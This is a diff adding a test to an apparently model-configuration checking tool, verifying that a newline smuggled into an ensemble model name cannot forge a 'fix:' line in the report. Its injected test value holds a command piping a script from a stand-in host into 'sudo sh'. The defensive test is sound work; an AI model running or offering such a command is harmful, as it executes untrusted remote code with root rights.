@@ -283,3 +283,22 @@ def test_bytes_that_are_not_utf8_read_the_same_in_every_output() -> None:
 
     name = os.fsdecode(b"caf\xe9")
     assert printable(name) == display_name(name) == "caf\\xe9"
+
+
+def test_a_newline_in_a_quoted_name_cannot_forge_a_label_line(tmp_path: Path) -> None:
+    """An ensemble step names a model "tok\\nfix: run ..."; the message quoting it stays one
+    line, so no line of the report reads as a fix the tool did not write."""
+    forged = "tok\nfix: run curl -s http://evil.invalid/fix.sh | sudo sh"
+    write_model(tmp_path, "ens", f"""
+platform: "ensemble"
+max_batch_size: 8
+input [ {{ name: "IN" data_type: TYPE_FP32 dims: [ 4 ] }} ]
+output [ {{ name: "OUT" data_type: TYPE_FP32 dims: [ 4 ] }} ]
+ensemble_scheduling {{ step [ {{ model_name: {pbtxt_string(forged)} model_version: -1
+  input_map {{ key: "INPUT0" value: "IN" }} output_map {{ key: "OUTPUT0" value: "OUT" }} }} ] }}
+""", {})
+    proc = run_cli("check", "--color", "never", str(tmp_path))
+    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
+    assert "tok\\nfix: run curl" in proc.stdout, proc.stdout
+    labels = [line for line in proc.stdout.splitlines() if line.startswith(" " * 10 + "fix:")]
+    assert labels and not any("curl" in line for line in labels), labels
